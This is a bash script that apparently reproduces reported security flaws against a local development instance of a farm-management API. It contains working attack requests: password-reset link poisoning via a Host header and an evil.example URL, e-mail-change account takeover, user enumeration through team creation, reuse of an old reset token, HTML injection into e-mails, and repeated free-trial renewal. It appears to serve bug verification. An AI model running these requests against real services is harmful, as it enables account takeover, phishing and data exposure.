#!/usr/bin/env bash
# Tries items 1, 2, 4, 7, 9 of issue 7 against a running app (FM_DEV_TOOLS=true, no SMTP): ./attack.sh PORT
P=${1:-3841}
B="http://127.0.0.1:$P/fm/v1"
J='Content-Type: application/json'
say() { printf '\n$ %s\n' "$*"; }
outbox_links() { curl -s "$B/dev/outbox?to=$1" | jq -c '[.data[] | {subject, links}] | .[0:'"${2:-1}"']'; }
token_of() { curl -s "$B/dev/outbox?to=$1" | jq -r '.data[0].links[0]' | sed 's#.*/##'; }
signup() { curl -s -X POST "$B/users/signup" -H "$J" -d "{\"email\":\"$1\",\"name\":\"${2:-Atacante}\",\"last_name\":\"Prueba\",\"password\":\"secreto1\",\"repeat_password\":\"secreto1\",\"phone\":\"0249 15 412-3456\",\"occupation\":\"Productor\"}" > /dev/null
  curl -s "$B/emails/user/validation?token=$(token_of "$1")" > /dev/null; }
signin() { curl -s -X POST "$B/users/signin" -H "$J" -d "{\"email\":\"$1\",\"password\":\"${2:-secreto1}\"}" | jq -r '.data[0].token'; }
R=$RANDOM

echo "=== 1. Host header / foreign link base in the reset mail"
say "curl -s -H 'Host: evil.example' '$B/emails/user/password/reset?email=demo@gestion-agro.local&reset_password_url=http://evil.example/restablecer-password-confirmar'"
curl -s -H 'Host: evil.example' "$B/emails/user/password/reset?email=demo@gestion-agro.local&reset_password_url=http://evil.example/restablecer-password-confirmar" | jq -c '{status, message}'
say "curl -s '$B/dev/outbox?to=demo@gestion-agro.local' | jq '.data[0].links'"
outbox_links demo@gestion-agro.local

echo; echo "=== 2. E-mail change without proof, then an invitation to that address"
A="atacante$R@test.local"; V="ceo$R@victima.test"
signup "$A"; TA=$(signin "$A")
say "curl -s -X PUT $B/users -H 'Authorization: Bearer <attacker>' -d '{\"email\":\"$V\"}'"
curl -s -X PUT "$B/users" -H "$J" -H "Authorization: Bearer $TA" -d "{\"email\":\"$V\"}" | jq -c '{status, message, email: .data[0].email, pending_email: .data[0].pending_email}'
TD=$(signin demo@gestion-agro.local demo1234)
WS=$(curl -s "$B/users/auth?renew=true" -H "Authorization: Bearer $TD" | jq -r '.data[0].workspace_id')
say "curl -s -X POST '$B/workspaces/users?workspace_id=$WS' -H 'Authorization: Bearer <demo owner>' -d '{\"email\":\"$V\"}'"
curl -s -X POST "$B/workspaces/users?workspace_id=$WS" -H "$J" -H "Authorization: Bearer $TD" -d "{\"email\":\"$V\"}" | jq -c '{status, message, data}'
say "curl -s '$B/users/auth?renew=true' -H 'Authorization: Bearer <attacker>' | jq '.data[0].user.workspaces'"
curl -s "$B/users/auth?renew=true" -H "Authorization: Bearer $TA" | jq -c '{status, message, workspaces: [.data[0].user.workspaces[]?.name]}'

echo; echo "=== 4. Names and ids of any account by e-mail (team members)"
say "curl -s -X POST $B/teams -H 'Authorization: Bearer <attacker>' -d '{\"name\":\"Sondeo $R\",\"members\":[\"demo@gestion-agro.local\"]}'"
curl -s -X POST "$B/teams" -H "$J" -H "Authorization: Bearer $TA" -d "{\"name\":\"Sondeo $R\",\"members\":[\"demo@gestion-agro.local\"]}" | jq -c '{status, members: .data[0].members}'
say "31 more team creations in the window (POST teams)"
for i in $(seq 1 31); do curl -s -o /dev/null -w '%{http_code} ' -X POST "$B/teams" -H "$J" -H "Authorization: Bearer $TA" -d "{\"name\":\"Sondeo $R-$i\",\"members\":[\"x$i@test.local\"]}"; done; echo

echo; echo "=== 7a. Two reset links; after using one, the other still works?"
U="reset$R@test.local"; signup "$U"
curl -s "$B/emails/user/password/reset?email=$U" > /dev/null; T1=$(token_of "$U")
curl -s "$B/emails/user/password/reset?email=$U" > /dev/null; T2=$(token_of "$U")
say "curl -s -X POST $B/users/password/change -H 'Authorization: Bearer <second link>' -d '{\"password\":\"nueva1234\"}'"
curl -s -X POST "$B/users/password/change" -H "$J" -H "Authorization: Bearer $T2" -d '{"password":"nueva1234"}' | jq -c '{status, message}'
say "curl -s -X POST $B/users/password/change -H 'Authorization: Bearer <first link>' -d '{\"password\":\"atacante1\"}'"
curl -s -X POST "$B/users/password/change" -H "$J" -H "Authorization: Bearer $T1" -d '{"password":"atacante1"}' | jq -c '{status, message}'

echo; echo "=== 7b. User-supplied text in the HTML of an e-mail"
H="html$R@test.local"
curl -s -X POST "$B/users/signup" -H "$J" -d "{\"email\":\"$H\",\"name\":\"<a href=http://evil.example>Ganaste</a>\",\"last_name\":\"Prueba\",\"password\":\"secreto1\",\"repeat_password\":\"secreto1\",\"phone\":\"0249 15 412-3456\",\"occupation\":\"Productor\"}" > /dev/null
say "curl -s '$B/dev/outbox?to=$H' | jq '.data[0].body_html'"
curl -s "$B/dev/outbox?to=$H" | jq '.data[0].body_html'

echo; echo "=== 9. renew-trial on an account that never had an ended trial, three times"
signup "trial$R@test.local"; TT=$(signin "trial$R@test.local")
for i in 1 2 3; do
  say "curl -s '$B/subscriptions/renew-trial' -H 'Authorization: Bearer <user>'"
  curl -s "$B/subscriptions/renew-trial" -H "Authorization: Bearer $TT" | jq -c '{status, message, data}'
done
